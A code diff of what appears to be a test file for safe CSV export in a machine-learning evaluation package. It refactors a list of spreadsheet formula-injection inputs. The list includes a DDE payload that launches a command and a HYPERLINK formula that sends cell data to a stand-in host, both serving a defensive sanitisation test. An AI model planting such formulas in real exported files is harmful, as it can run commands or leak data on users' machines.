@@ -21,17 +21,8 @@ from gammavae_jax.evaluation.csv_files import (
 from gammavae_jax.evaluation.metrics import Row
 
 FORMULAS = [
-    "=1+1",
-    "=cmd|' /C calc'!A0",
-    "+1+1",
-    "-1+1",
-    "@SUM(1)",
-    "\uff1d1+1",
-    "\uff0b1",
-    "\uff0d1",
-    "\uff201",
-    "\t=1+1",
-    "\r=1+1",
+    *(f"{sign}1+1" for sign in "=+-\uff1d\uff0b\uff0d\uff20"),
+    *("@SUM(1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"),
     '=HYPERLINK("http://x/?"&A1,"y")',
 ]
 BEGINS = re.compile("[=+\\-@\uff1d\uff0b\uff0d\uff20\t\r\n]")
